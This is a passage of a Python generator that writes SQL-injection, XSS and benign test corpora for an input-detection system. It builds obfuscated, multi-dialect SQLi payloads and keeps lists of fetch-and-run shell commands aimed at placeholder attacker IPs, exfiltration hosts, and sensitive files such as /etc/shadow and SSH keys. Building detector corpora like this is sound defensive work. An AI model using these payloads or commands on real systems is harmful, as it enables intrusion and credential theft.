#!/usr/bin/env python3
"""Writes the SQL-injection, XSS and benign corpora of //detect, deterministically.

    python3 detect/corpus/generate.py                 # rewrite the three files next to this script
    python3 detect/corpus/generate.py --out-dir DIR   # write them somewhere else (the sync test)
    python3 detect/corpus/generate.py --explain       # also print "corpus<TAB>family<TAB>notes<TAB>line"

Everything is generated here, from vocabularies and templates written for this file and from what
SQL and HTML syntax allow; nothing is taken from a published payload list. Standard library only.

Each corpus is made of families (a technique for attacks, a kind of text for benign strings). A
family is a function that draws one candidate string from its own random stream (seeded from SEED
and the family's name, so editing one family leaves the others' output unchanged). Every family
gets an equal quota of distinct strings, so no family dominates a corpus (MAX_SHARE is checked).
Attack families share the obfuscation and encoding transforms; what each string went through is
recorded as its notes, which --explain prints.
"""

import argparse
import base64
import hashlib
import os
import random
import sys
import unicodedata
import uuid

SEED = "gatehouse/detect/corpus/v1"

# Distinct strings per corpus; each family gets an equal share.
TARGETS = {"sqli": 3003, "xss": 1500, "benign": 13300}
MINIMUMS = {"sqli": 2000, "xss": 1000, "benign": 10000}
MAX_SHARE = 0.15
FILES = {"sqli": "sqli_attacks.txt", "xss": "xss_attacks.txt", "benign": "benign.txt"}


# --------------------------------------------------------------------------------------------
# Framework
# --------------------------------------------------------------------------------------------


class Draw:
    """One draw of a family: the family's random stream plus the notes of what was applied."""

    def __init__(self, rng):
        self.rng = rng
        self.notes = []
        self.ws = "space"

    def pick(self, seq):
        return seq[self.rng.randrange(len(seq))]

    def wpick(self, pairs):
        total = sum(w for _, w in pairs)
        x = self.rng.random() * total
        for item, weight in pairs:
            x -= weight
            if x < 0:
                return item
        return pairs[-1][0]

    def chance(self, p):
        return self.rng.random() < p

    def randint(self, a, b):
        return self.rng.randint(a, b)

    def sample(self, seq, k):
        return self.rng.sample(list(seq), k)

    def note(self, tag):
        if tag not in self.notes:
            self.notes.append(tag)


FAMILIES = {"sqli": [], "xss": [], "benign": []}


def family(corpus, name):
    def register(fn):
        FAMILIES[corpus].append((name, fn))
        return fn

    return register


def raw_ok(ch):
    """Whether a character may appear as itself in a corpus line (tab is the only control)."""
    o = ord(ch)
    if ch == "\t":
        return True
    if o < 0x20 or 0x7F <= o <= 0x9F or 0xD800 <= o <= 0xDFFF:
        return False
    return ch not in "\u2028\u2029\ufeff"


def check_line(text, where):
    if not text:
        raise ValueError(f"{where}: empty string")
    for ch in text:
        if not raw_ok(ch):
            raise ValueError(f"{where}: character U+{ord(ch):04X} in {text!r}")


def build(corpus, forbidden):
    """Runs every family of `corpus` to its quota; returns {line: (family, notes)} in order."""
    fams = FAMILIES[corpus]
    base, extra = divmod(TARGETS[corpus], len(fams))
    out = {}
    for i, (name, fn) in enumerate(fams):
        quota = base + (1 if i < extra else 0)
        rng = random.Random(f"{SEED}/{corpus}/{name}")
        got = attempts = 0
        while got < quota:
            attempts += 1
            if attempts > 60 * quota:
                raise SystemExit(f"{corpus}/{name}: only {got} distinct strings of {quota}")
            d = Draw(rng)
            text = fn(d)
            check_line(text, f"{corpus}/{name}")
            if text in out or text in forbidden:
                continue
            out[text] = (name, tuple(d.notes))
            got += 1
    return out


# --------------------------------------------------------------------------------------------
# Encodings shared by the attack corpora
# --------------------------------------------------------------------------------------------


def pct_bytes(ch, lower=False):
    fmt = "%{:02x}" if lower else "%{:02X}"
    return "".join(fmt.format(b) for b in ch.encode("utf-8"))


def encode_where(s, should, lower=False, plus=False):
    out = []
    for ch in s:
        if ch == " " and plus:
            out.append("+")
        elif should(ch):
            out.append(pct_bytes(ch, lower))
        else:
            out.append(ch)
    return "".join(out)


def is_alnum_ascii(ch):
    return ch.isascii() and ch.isalnum()



def url_encode(s, mode, lower=False):
    """Encodes `s` the way a client (or an attacker evading a filter) would put it in a URL."""
    ctrl = lambda ch: not raw_ok(ch) or ch == "\t"
    if mode == "ctrl":
        return encode_where(s, lambda ch: not raw_ok(ch), lower)
    if mode == "browser":
        return encode_where(
            s, lambda ch: ctrl(ch) or ch in ' #%&+"<>`' or not ch.isascii(), lower,
            plus=False)
    if mode == "php":
        return encode_where(s, lambda ch: not (is_alnum_ascii(ch) or ch in "-_."), lower, plus=True)
    if mode == "js":
        return encode_where(s, lambda ch: not (is_alnum_ascii(ch) or ch in "-_.!~*'()"), lower)
    if mode == "full":
        return "".join(pct_bytes(ch, lower) for ch in s)
    if mode == "double":
        once = url_encode(s, "js" if lower else "php", lower)
        return once.replace("%", "%25")
    if mode == "double_partial":
        return encode_where(
            s, lambda ch: ctrl(ch) or ch in " '\"<>#", lower).replace("%", "%25")
    if mode == "unicode":
        out = []
        for ch in s:
            if is_alnum_ascii(ch) or ch in "_.":
                out.append(ch)
            else:
                out.append(("%u{:04x}" if lower else "%u{:04X}").format(ord(ch)))
        return "".join(out)
    raise ValueError(mode)


# --------------------------------------------------------------------------------------------
# SQL injection
# --------------------------------------------------------------------------------------------

DIALECT_WEIGHTS = [("mysql", 40), ("mssql", 20), ("pg", 20), ("sqlite", 12), ("oracle", 8)]

SQL_WORDS = set(
    """SELECT UNION ALL DISTINCT FROM WHERE AND OR NOT XOR NULL IS IN LIKE RLIKE REGEXP GLOB
    BETWEEN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET AS ASC DESC CASE WHEN THEN ELSE END IF
    INSERT INTO VALUES UPDATE SET DELETE DROP TABLE DATABASE CREATE ALTER ADD TRUNCATE EXEC
    EXECUTE DECLARE WAITFOR DELAY TIME TRUE FALSE DIV MOD CAST CONVERT USING CONCAT CONCAT_WS
    GROUP_CONCAT STRING_AGG SUBSTRING SUBSTR MID ASCII ORD CHAR CHR NCHAR LENGTH LEN SLEEP
    BENCHMARK PG_SLEEP RANDOMBLOB VERSION USER SCHEMA TOP COUNT FLOOR RAND EXTRACTVALUE
    UPDATEXML EXP HEX UNHEX LOAD_FILE OUTFILE DUMPFILE INT INTEGER SIGNED VARCHAR NUMERIC DUAL
    ROWNUM JOIN ON LEFT MD5 SHA1 IFNULL COALESCE UPPER LOWER REPLACE GRANT SHUTDOWN BEGIN
    RECONFIGURE COPY PROGRAM ATTACH ELT NOW SYSDATE DATABASE UNICODE REVERSE LISTAGG""".split())

# Keywords MySQL runs inside /*!...*/ comments in payloads seen in the wild.
VERSIONABLE = {"UNION", "SELECT", "FROM", "WHERE", "AND", "OR", "ORDER", "BY", "ALL", "LIMIT",
               "CONCAT", "GROUP_CONCAT", "SLEEP", "IF", "NULL", "INTO", "BENCHMARK"}
SPLITTABLE = {"UNION", "SELECT", "FROM", "WHERE", "AND", "ORDER", "SLEEP", "CONCAT", "INSERT",
              "DELETE", "UPDATE"}

TABLES = ["users", "user", "admin", "admins", "accounts", "members", "customers", "login",
          "logins", "tbl_users", "wp_users", "employees", "staff", "credentials", "sessions",
          "orders", "payments", "cards", "auth_user", "userinfo", "profiles", "clients",
          "passwords", "tbl_admin", "app_users", "operators"]
USER_COLS = ["username", "user", "login", "email", "name", "user_name", "uname", "usr",
             "user_login", "mail"]
PASS_COLS = ["password", "passwd", "pass", "pwd", "password_hash", "hash", "user_pass",
             "secret", "pw", "passhash"]
OTHER_COLS = ["id", "user_id", "role", "is_admin", "api_key", "token", "credit_card", "ssn",
              "salary", "balance", "card_number", "cvv", "first_name", "last_name"]
USERNAMES = ["admin", "administrator", "root", "sa", "test", "guest", "user", "demo",
             "webmaster", "support", "sysadmin", "postgres", "oracle", "manager", "operator",
             "dbo", "superuser", "admin1", "backup", "info"]
WORDS = ["a", "x", "abc", "test", "foo", "qwe", "zzz", "hello", "1", "x1", "pwn", "q"]
OOB_HOSTS = ["attacker.example", "oob.evil.example", "x.exfil.test", "dns.attacker.test",
             "c2.example.net", "collect.evil.test"]
ATTACKER_IPS = ["203.0.113.7", "198.51.100.23", "192.0.2.66", "203.0.113.150", "10.13.37.1"]
FILES_READ = ["/etc/passwd", "/etc/hosts", "/etc/shadow", "/proc/self/environ",
              "/var/www/html/config.php", "/var/www/html/wp-config.php", "/var/www/.env",
              "/etc/mysql/my.cnf", "/root/.ssh/id_rsa", "/home/www/.bash_history",
              "C:\\Windows\\win.ini", "C:/boot.ini", "C:\\inetpub\\wwwroot\\web.config",
              "/etc/postgresql/15/main/pg_hba.conf", "/usr/local/etc/php.ini"]
SHELL_CMDS = ["whoami", "id", "hostname", "ipconfig /all", "net user", "uname -a",
              "ping -n 5 10.0.0.5", "nslookup x.attacker.example", "type C:\\Windows\\win.ini",
              "cat /etc/passwd", "dir C:\\", "net localgroup administrators",
              "certutil -urlcache -f http://203.0.113.7/a.exe C:\\Temp\\a.exe",
              "curl http://198.51.100.23/s.sh|sh", "powershell -enc SQBFAFgA",
              "wget -q -O- http://192.0.2.66/x|bash", "tasklist", "systeminfo"]

INFO = {
    "mysql": ["@@version", "version()", "user()", "current_user()", "database()", "schema()",
              "@@hostname", "@@datadir", "system_user()", "session_user()",
              "@@version_compile_os", "connection_id()", "@@basedir", "@@secure_file_priv"],
    "pg": ["version()", "current_user", "session_user", "current_database()",
           "current_schema()", "inet_server_addr()", "current_setting('data_directory')",
           "pg_backend_pid()", "user", "current_setting('is_superuser')"],
    "mssql": ["@@version", "db_name()", "user_name()", "system_user", "suser_sname()",
              "@@servername", "host_name()", "@@spid", "current_user",
              "is_srvrolemember('sysadmin')", "@@language", "SERVERPROPERTY('Edition')"],
    "sqlite": ["sqlite_version()", "sqlite_source_id()", "last_insert_rowid()",
               "(SELECT name FROM sqlite_master LIMIT 1)", "typeof(1)"],
    "oracle": ["(SELECT banner FROM v$version WHERE rownum=1)", "(SELECT user FROM dual)",
               "(SELECT global_name FROM global_name)", "SYS_CONTEXT('USERENV','CURRENT_USER')",
               "(SELECT instance_name FROM v$instance)", "ora_database_name",
               "SYS_CONTEXT('USERENV','IP_ADDRESS')"],
}

TERMINATORS = {
    "mysql": [("-- ", 5), ("-- -", 5), ("--+", 3), ("#", 5), ("/*", 1), (";-- ", 1),
              ("-- x", 1), (";\x00", 0.5), ("`", 0.2)],
    "pg": [("--", 6), ("-- ", 3), ("/*", 1), (";--", 2), ("-- -", 1)],
    "mssql": [("--", 6), ("-- ", 2), (";--", 3), ("/*", 1), ("--sp_password", 0.3)],
    "sqlite": [("--", 6), ("-- ", 2), ("/*", 1), (";--", 1)],
    "oracle": [("--", 6), ("-- ", 3), ("-- -", 1)],
}


def pick_dialect(d, weights=None):
    dialect = d.wpick(weights or DIALECT_WEIGHTS)
    d.note("dialect_" + dialect)
    return dialect


def terminator(d, dialect):
    return d.wpick(TERMINATORS[dialect])


def limit1(d, dialect, k=0):
    """The row-limiting clause of a scalar subquery, per dialect."""
    if dialect in ("mysql", "sqlite"):
        return d.pick([f" LIMIT {k},1", f" LIMIT 1 OFFSET {k}"]) if k else " LIMIT 1"
    if dialect == "pg":
        return f" LIMIT 1 OFFSET {k}" if k else " LIMIT 1"
    if dialect == "oracle":
        return f" WHERE rownum={k + 1}" if k else " WHERE rownum=1"
    return ""


def secret_subquery(d, dialect):
    """A scalar subquery reading a secret: a password, a table name, a user."""
    table = d.pick(TABLES)
    ucol, pcol = d.pick(USER_COLS), d.pick(PASS_COLS)
    who = d.pick(USERNAMES)
    k = d.wpick([(0, 5), (d.randint(1, 9), 2)])
    if dialect == "mssql":
        forms = [f"SELECT TOP 1 {pcol} FROM {table}",
                 f"SELECT TOP 1 {pcol} FROM {table} WHERE {ucol}='{who}'",
                 "SELECT TOP 1 name FROM sysobjects WHERE xtype='U'",
                 "SELECT TOP 1 table_name FROM information_schema.tables",
                 f"SELECT TOP 1 name FROM sys.databases WHERE database_id>{k + 4}"]
    elif dialect == "oracle":
        forms = [f"SELECT {pcol} FROM {table} WHERE rownum=1",
                 f"SELECT {pcol} FROM {table} WHERE {ucol}='{who.upper()}'",
                 "SELECT table_name FROM all_tables WHERE rownum=1",
                 "SELECT username FROM all_users WHERE rownum=1",
                 "SELECT banner FROM v$version WHERE rownum=1"]
    elif dialect == "sqlite":
        forms = [f"SELECT {pcol} FROM {table}{limit1(d, dialect, k)}",
                 f"SELECT {pcol} FROM {table} WHERE {ucol}='{who}'",
                 f"SELECT tbl_name FROM sqlite_master WHERE type='table'{limit1(d, dialect, k)}",
                 f"SELECT sql FROM sqlite_master{limit1(d, dialect, k)}"]
    elif dialect == "pg":
        forms = [f"SELECT {pcol} FROM {table}{limit1(d, dialect, k)}",
                 f"SELECT {pcol} FROM {table} WHERE {ucol}='{who}'",
                 f"SELECT table_name FROM information_schema.tables{limit1(d, dialect, k)}",
                 f"SELECT usename FROM pg_user{limit1(d, dialect, k)}",
                 f"SELECT passwd FROM pg_shadow{limit1(d, dialect, k)}"]
    else:
        forms = [f"SELECT {pcol} FROM {table}{limit1(d, dialect, k)}",
                 f"SELECT {pcol} FROM {table} WHERE {ucol}='{who}'",
                 f"SELECT table_name FROM information_schema.tables WHERE table_schema=database(){limit1(d, dialect, k)}",
                 f"SELECT concat({ucol},0x3a,{pcol}) FROM {table}{limit1(d, dialect, k)}",
                 f"SELECT authentication_string FROM mysql.user{limit1(d, dialect, k)}",
                 f"SELECT column_name FROM information_schema.columns WHERE table_name='{table}'{limit1(d, dialect, k)}"]
    return d.pick(forms)


def scalar(d, dialect, p_sub=0.45):
    """Something worth leaking: a built-in info function or a subquery."""
    if d.chance(p_sub):
        return "(" + secret_subquery(d, dialect) + ")"
    return d.pick(INFO[dialect])


# ---- SQL string literals built without quotes ------------------------------------------------


def sql_hex(s):
    return s.encode("utf-8").hex()


def built_literal(d, s, dialect):
    """`s` as an SQL expression that avoids a plain quoted literal (hex, CHAR(), concatenation)."""
    codes = [ord(c) for c in s]
    half = max(1, len(s) // 2)
    if dialect == "mysql":
        forms = [("0x" + sql_hex(s), 5), ("0x" + sql_hex(s).upper(), 1),
                 ("x'" + sql_hex(s) + "'", 1),
                 ("CHAR(" + ",".join(map(str, codes)) + ")", 4),
                 ("char(" + ",".join(hex(c) for c in codes) + ")", 1),
                 (f"CONCAT('{s[:half]}','{s[half:]}')", 3),
                 (f"concat(char({codes[0]}),'{s[1:]}')", 1),
                 (f"UNHEX('{sql_hex(s).upper()}')", 2),
                 (f"FROM_BASE64('{base64.b64encode(s.encode()).decode()}')", 1),
                 (f"'{s[:half]}' '{s[half:]}'", 1),
                 (f"CONVERT(0x{sql_hex(s)} USING utf8)", 1),
                 (f"_utf8mb4 0x{sql_hex(s)}", 0.5),
                 (f"reverse('{s[::-1]}')", 1),
                 (f"lower('{s.upper()}')", 0.5),
                 ("b'" + "".join(format(b, "08b") for b in s.encode()) + "'", 0.5)]
    elif dialect == "pg":
        forms = [("||".join(f"CHR({c})" for c in codes), 5),
                 (f"'{s[:half]}'||'{s[half:]}'", 3),
                 (f"$${s}$$", 2), (f"$q${s}$q$", 1),
                 ("E'" + "".join(f"\\x{c:02x}" for c in codes) + "'", 1),
                 (f"convert_from(decode('{sql_hex(s)}','hex'),'UTF8')", 1),
                 (f"convert_from(decode('{base64.b64encode(s.encode()).decode()}','base64'),'UTF8')", 1),
                 (f"concat('{s[:half]}','{s[half:]}')", 1),
                 ("U&'" + "".join(f"\\{c:04x}" for c in codes) + "'", 0.5),
                 (f"reverse('{s[::-1]}')", 0.5),
                 (f"chr({codes[0]})||'{s[1:]}'", 1)]
    elif dialect == "mssql":
        forms = [("+".join(f"CHAR({c})" for c in codes), 5),
                 (f"'{s[:half]}'+'{s[half:]}'", 3),
                 (f"N'{s}'", 1),
                 (f"CONCAT('{s[:half]}','{s[half:]}')", 1),
                 (f"CAST(0x{sql_hex(s).upper()} AS varchar)", 2),
                 ("+".join(f"NCHAR({c})" for c in codes), 1),
                 (f"REVERSE('{s[::-1]}')", 0.5),
                 (f"CHAR({codes[0]})+'{s[1:]}'", 1)]
    elif dialect == "sqlite":
        forms = [("char(" + ",".join(map(str, codes)) + ")", 5),
                 (f"'{s[:half]}'||'{s[half:]}'", 3),
                 (f"CAST(x'{sql_hex(s)}' AS TEXT)", 2),
                 (f"lower('{s.upper()}')", 0.5),
                 (f"replace('{s[:half]}~{s[half:]}','~','')", 0.5),
                 (f"char({codes[0]})||'{s[1:]}'", 1)]
    else:
        forms = [("||".join(f"CHR({c})" for c in codes), 5),
                 (f"'{s[:half]}'||'{s[half:]}'", 3),
                 (f"q'[{s}]'", 1), (f"q'{{{s}}}'", 1),
                 (f"CONCAT('{s[:half]}','{s[half:]}')", 1),
                 (f"UTL_RAW.CAST_TO_VARCHAR2(HEXTORAW('{sql_hex(s).upper()}'))", 1),
                 ("UNISTR('" + "".join(f"\\{c:04X}" for c in codes) + "')", 0.5)]
    return d.wpick(forms)


def literal(d, s, dialect, p_built=0.12, quote="'"):
    if d.chance(p_built):
        d.note("built_literal")
        return built_literal(d, s, dialect)
    return quote + s + quote


# ---- breaking out of the query's context ------------------------------------------------------


class Ctx:
    """Where the payload starts: after a number, a quote, a closing parenthesis."""

    def __init__(self, kind, prefix, quote, parens):
        self.kind = kind  # "num", "sq", "dq", "paren"
        self.prefix = prefix
        self.quote = quote  # the quote the application wrote before the value ("" if none)
        self.parens = parens  # how many parentheses the payload closed


NUM_VALUES = ["1", "1", "0", "-1", "2", "10", "42", "100", "1337", "9999", "123", "5", "7",
              "-1", "999999", "0", "3", "25", "1.5", "-5"]
STR_VALUES = ["", "", "", "", "1", "x", "a", "admin", "test", "abc", "-1", "999", "foo", "%",
              "1%", "john", "x", "search", "bar", "0"]


def breakout(d, dialect, weights=None):
    kind = d.wpick(weights or [("num", 3), ("sq", 5), ("dq", 1.2), ("paren", 2)])
    if kind == "dq" and dialect not in ("mysql", "sqlite"):
        kind = "sq"  # elsewhere "..." quotes identifiers, not strings
    if kind == "num":
        v = d.pick(NUM_VALUES)
        ctx = Ctx("num", v, "", 0)
    elif kind in ("sq", "dq"):
        q = "'" if kind == "sq" else '"'
        v = d.pick(STR_VALUES)
        prefix = v + q
        if kind == "sq" and dialect == "mysql" and d.chance(0.03):
            prefix = d.pick(["%bf", "%df", "%aa"]) + "%27"
            d.note("enc_gbk_quote")
        ctx = Ctx(kind, prefix, q, 0)
    else:
        q = d.wpick([("'", 5), ("", 3), ('"', 1 if dialect in ("mysql", "sqlite") else 0)])
        depth = d.wpick([(1, 5), (2, 2), (3, 0.3)])
        v = d.pick(NUM_VALUES) if q == "" else d.pick(STR_VALUES).replace("'", "")
        ctx = Ctx("paren", v + q + ")" * depth, q, depth)
    d.note("ctx_" + ctx.kind)
    return ctx


def balancer(d, ctx, op="AND"):
    """A tail that leaves the application's own closing quote/parentheses valid SQL."""
    q = ctx.quote
    a = d.pick(["1", "a", "x", "2", "z", ""])
    if ctx.kind == "num":
        return ""
    if ctx.kind == "paren":
        opens = "(" * ctx.parens
        if q:
            return d.pick([f" {op} {opens}{q}{a}{q}={q}{a}",
                           f" {op} {opens}{q}{a}{q} LIKE {q}{a}"])
        n = d.randint(1, 9)
        return d.pick([f" {op} {opens}{n}={n}", f" {op} {opens}1"])
    return d.wpick([(f" {op} {q}{a}{q}={q}{a}", 6), (f" OR {q}{a}{q}={q}", 1),
                    (f" {op} {q}{a}{q} LIKE {q}{a}", 1),
                    (f" {op} {q}{q}={q}", 1)])


# ---- obfuscation ------------------------------------------------------------------------------


def sql_lex(s, dialect):
    toks = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c in " \t\n":
            j = i
            while j < n and s[j] in " \t\n":
                j += 1
            toks.append(["ws", s[i:j]])
            i = j
        elif c in "'\"`":
            j = i + 1
            while j < n:
                if s[j] == c:
                    if j + 1 < n and s[j + 1] == c:
                        j += 2
                        continue
                    j += 1
                    break
                if s[j] == "\\" and dialect == "mysql":
                    j += 2
                    continue
                j += 1
            toks.append(["str", s[i:j]])
            i = j
        elif s.startswith("/*", i):
            j = s.find("*/", i + 2)
            j = n if j < 0 else j + 2
            toks.append(["cmt", s[i:j]])
            i = j
        elif s.startswith("--", i) or (c == "#" and dialect == "mysql"):
            toks.append(["cmt", s[i:]])
            break
        elif c == "$" and dialect == "pg" and s.find("$", i + 1) > 0:
            tag_end = s.find("$", i + 1)
            tag = s[i:tag_end + 1]
            close = s.find(tag, tag_end + 1)
            j = n if close < 0 else close + len(tag)
            toks.append(["str", s[i:j]])
            i = j
        elif c.isalpha() or c in "_@":
            j = i + 1
            while j < n and (s[j].isalnum() or s[j] in "_@$"):
                j += 1
            toks.append(["word", s[i:j]])
            i = j
        elif c.isdigit():
            j = i + 1
            while j < n and (s[j].isalnum() or s[j] == "."):
                j += 1
            toks.append(["num", s[i:j]])
            i = j
        else:
            toks.append(["op", c])
            i += 1
    return toks


def apply_case(d, word, style):
    if style == "upper":
        return word.upper()
    if style == "lower":
        return word.lower()
    if style == "mixed":
        return "".join(ch.upper() if d.chance(0.5) else ch.lower() for ch in word)
    if style == "alternating":
        return "".join(ch.upper() if k % 2 == 0 else ch.lower() for k, ch in enumerate(word))
    return word


def ws_style(d, dialect):
    styles = [("space", 62), ("tab", 4), ("comment", 9), ("comment_text", 2), ("newline", 4),
              ("crlf", 1), ("multi", 2), ("mixed", 4), ("tight", 6), ("dash_nl", 1)]
    if dialect in ("mysql", "mssql"):
        styles += [("vt", 1), ("ff", 1)]
    if dialect == "mysql":
        styles += [("hash_nl", 1.5), ("versioned_empty", 1), ("paren_comment", 0.5)]
    return d.wpick(styles)


def gap(d, style, required=True):
    """One stretch of whitespace (or what the database takes as whitespace) in `style`."""
    if style == "mixed":
        style = d.pick(["space", "tab", "comment", "newline", "comment_text", "crlf"])
    if style in ("space", "tight"):
        return " "
    if style == "tab":
        return "\t"
    if style == "comment":
        return "/**/"
    if style == "comment_text":
        return "/*" + d.pick(["x", "foo", "*", "!", "bar", "1", "a b", "--", "**"]) + "*/"
    if style == "newline":
        return "\n"
    if style == "crlf":
        return "\r\n"
    if style == "vt":
        return "\x0b"
    if style == "ff":
        return "\x0c"
    if style == "multi":
        return " " * d.randint(2, 5)
    if style == "dash_nl":
        return "--" + d.pick(["", "x", "a", "-", " "]) + "\n"
    if style == "hash_nl":
        return "#" + d.pick(["", "x", "a", "foo"]) + "\n"
    if style == "versioned_empty":
        return "/*!*/"
    if style == "paren_comment":
        return "/*()*/"
    raise ValueError(style)


def obfuscate_sql(d, body, dialect):
    toks = sql_lex(body, dialect)
    case = d.wpick([("asis", 40), ("upper", 15), ("lower", 30), ("mixed", 10),
                    ("alternating", 5)])
    style = ws_style(d, dialect)
    d.ws = style
    versioned = dialect == "mysql" and d.chance(0.06)
    split = d.chance(0.012)
    if case != "asis":
        d.note("case_" + case)
    if style != "space":
        d.note("ws_" + style)
    out = []
    for i, (kind, text) in enumerate(toks):
        if kind == "word" and text.upper() in SQL_WORDS:
            text = apply_case(d, text, case)
            up = text.upper()
            if versioned and up in VERSIONABLE and d.chance(0.7):
                text = "/*!" + d.pick(["", "50000", "50000", "40000", "50001", "32302"]) + text + "*/"
                d.note("mysql_versioned_comment")
            elif split and up in SPLITTABLE:
                k = len(text) // 2
                text = d.pick([text[:k] + "/**/" + text[k:], text[:k] + text + text[k:]])
                d.note("keyword_split")
        elif kind == "ws":
            prev = toks[i - 1] if i > 0 else ["op", ""]
            nxt = toks[i + 1] if i + 1 < len(toks) else ["op", ""]
            if style == "tight" and (prev[0] in ("op", "str", "cmt") or nxt[0] in ("op", "str")):
                joined = (prev[1][-1:] + nxt[1][:1])
                text = " " if joined in ("--", "/*", "*/", "-.") else ""
            else:
                text = gap(d, style)
        out.append(text)
    return "".join(out)


SQLI_ENCODINGS = [("raw", 57), ("browser", 11), ("php", 7), ("js", 5), ("full", 1.2),
                  ("double", 3.5), ("double_partial", 2), ("unicode", 2.5), ("quote_only", 3),
                  ("fullwidth", 0.8)]


def sqli(d, dialect, ctx, body, end="", obfuscate=True):
    """Assembles prefix + body + terminator, obfuscates the body and encodes the result."""
    mode = d.wpick(SQLI_ENCODINGS)
    if "%27" in ctx.prefix:
        mode = "raw"  # the prefix is already URL-encoded
    if obfuscate:
        body = obfuscate_sql(d, body, dialect)
    else:
        d.ws = "space"
    style = d.ws
    prefix = ctx.prefix
    if not prefix or not body:
        sep = ""
    elif prefix[-1:].isalnum() or prefix[-1:] == ".":
        sep = gap(d, "space" if style == "tight" else style)
    elif style == "tight" or d.chance(0.22) or body[:1] in ";(":
        sep = ""
    else:
        sep = gap(d, "space" if style == "tight" else style)
    if end == "--+" and mode != "raw":
        end = "-- "
    if end and end[0] in "-#/" and d.chance(0.2):
        end = gap(d, "space" if style in ("tight", "dash_nl", "hash_nl") else style) + end
    text = prefix + sep + body + end
    if mode == "quote_only":
        text = text.replace("'", "%27").replace('"', "%22")
        mode = "ctrl"
        d.note("enc_quote_only")
    elif mode == "fullwidth":
        if "'" in text or '"' in text:
            text = text.replace("'", "\uff07").replace('"', "\uff02")
            d.note("enc_fullwidth_quote")
        mode = "ctrl"
    if mode == "raw":
        if not all(raw_ok(ch) for ch in text):
            mode = "ctrl"
        else:
            return text
    lower = d.chance(0.25)
    if mode != "ctrl":
        d.note("enc_url_" + mode)
    elif not all(raw_ok(ch) for ch in text):
        d.note("enc_url_ctrl")
    return url_encode(text, mode, lower)


def cond_payload(d, dialect, ctx, op, cond, allow_balance=True, p_end=0.6):
    """`op cond` after the breakout, closed either by a comment or by a balancing tail."""
    body = f"{op} {cond}"
    if ctx.kind == "num" and not ctx.parens:
        end = terminator(d, dialect) if d.chance(0.3) else ""
        return sqli(d, dialect, ctx, body, end)
    if allow_balance and not d.chance(p_end):
        return sqli(d, dialect, ctx, body + balancer(d, ctx, "AND" if op.upper() != "AND" or d.chance(0.5) else "OR"))
    return sqli(d, dialect, ctx, body, terminator(d, dialect))


def or_word(d, dialect):
    if dialect == "mysql":
        return d.wpick([("OR", 10), ("||", 1.5), ("XOR", 0.3)])
    return "OR"


def and_word(d, dialect):
    if dialect == "mysql":
        return d.wpick([("AND", 10), ("&&", 1.2)])
    return "AND"


# ---- SQLi families ------------------------------------------------------------------------------


def union_kw(d, dialect):
    kws = [("UNION SELECT", 6), ("UNION ALL SELECT", 4)]
    if dialect == "mysql":
        kws.append(("UNION DISTINCT SELECT", 0.4))
    return d.wpick(kws)


def info_column(d, dialect):
    x = scalar(d, dialect, 0.3)
    if dialect == "mysql" and d.chance(0.25):
        return d.pick([f"concat(0x7e,{x},0x7e)", f"concat_ws(0x3a,{x},{d.pick(INFO['mysql'])})",
                       f"group_concat({x})" if not x.startswith("(") else f"concat({x})"])
    if dialect == "pg" and d.chance(0.2):
        return f"{x}::text"
    if dialect == "mssql" and d.chance(0.2):
        return f"CAST({x} AS varchar(4000))"
    return x


@family("sqli", "union_columns")
def sqli_union_columns(d):
    dialect = pick_dialect(d)
    ctx = breakout(d, dialect)
    if ctx.kind == "num" and d.chance(0.6):
        ctx.prefix = d.pick(["-1", "0", "-999", "99999999", "1 AND 1=2", "null"])
    n = d.wpick([(1, 2), (2, 5), (3, 6), (4, 5), (5, 4), (6, 3), (7, 2), (8, 2), (9, 1),
                 (10, 1), (12, 1), (15, 0.5), (20, 0.3)])
    style = d.wpick([("numbers", 4), ("nulls", 4), ("mixed", 2), ("strings", 1)])
    if dialect in ("mssql", "oracle", "pg") and style == "numbers" and d.chance(0.6):
        style = "nulls"
    cols = []
    for i in range(n):
        if style == "numbers":
            cols.append(str(i + 1))
        elif style == "nulls":
            cols.append(d.pick(["NULL", "NULL", "null"]))
        elif style == "mixed":
            cols.append(d.pick(["NULL", str(i + 1)]))
        else:
            cols.append(literal(d, d.pick(WORDS), dialect, 0.3))
    if d.chance(0.75):
        cols[d.randint(0, n - 1)] = info_column(d, dialect)
    compact = dialect == "mysql" and d.chance(0.1)
    union = union_kw(d, dialect)
    if compact:
        d.note("parens_for_spaces")
        kw = union.split()
        body = " ".join(kw[:-1]) + "(SELECT(" + "),(".join(cols) + "))"
        if d.chance(0.4):
            body = body.replace(" ", "/**/")
        return sqli(d, dialect, ctx, body, terminator(d, dialect) if ctx.kind != "num" else "",
                    obfuscate=False)
    if dialect == "mysql" and n >= 2 and d.chance(0.06):
        d.note("join_instead_of_commas")
        parts = " JOIN ".join(f"(SELECT {c})" + chr(97 + k) for k, c in enumerate(cols))
        body = f"{union} * FROM {parts}"
    else:
        body = f"{union} " + ",".join(cols)
        if dialect == "oracle":
            body += " FROM dual" if d.chance(0.8) else f" FROM {d.pick(TABLES)}"
        elif d.chance(0.2):
            body += " FROM " + d.pick(TABLES + ["dual"] if dialect == "mysql" else TABLES)
        if dialect in ("mysql", "sqlite", "pg") and d.chance(0.15):
            body += d.pick([" LIMIT 1", " LIMIT 1,1" if dialect != "pg" else " LIMIT 1 OFFSET 1",
                            " LIMIT 0,1" if dialect != "pg" else " OFFSET 0"])
    if ctx.kind in ("sq", "dq") and d.chance(0.12) and body.endswith(cols[-1]) and cols[-1] in (
            str(n), "NULL", "null"):
        # Let the application's closing quote end a last string column.
        body = body[: -len(cols[-1])] + ctx.quote + d.pick(WORDS)
        return sqli(d, dialect, ctx, body)
    end = terminator(d, dialect) if (ctx.kind != "num" or d.chance(0.4)) else ""
    return sqli(d, dialect, ctx, body, end)


CATALOG = {
    "mysql": [
        (["group_concat(table_name)"], "FROM information_schema.tables WHERE table_schema=database()"),
        (["group_concat(column_name)"], "FROM information_schema.columns WHERE table_name={T}"),
        (["group_concat({U},0x3a,{P})"], "FROM {t}"),
        (["concat_ws(0x3a,{U},{P})"], "FROM {t} LIMIT {k},1"),
        (["schema_name"], "FROM information_schema.schemata"),
        (["group_concat(schema_name SEPARATOR 0x3c62723e)"], "FROM information_schema.schemata"),
        (["user", "authentication_string"], "FROM mysql.user"),
        (["table_name"], "FROM information_schema.tables WHERE table_schema NOT IN ('mysql','information_schema','performance_schema','sys')"),
        (["grantee", "privilege_type"], "FROM information_schema.user_privileges"),
        (["{U}", "{P}"], "FROM {t}"),
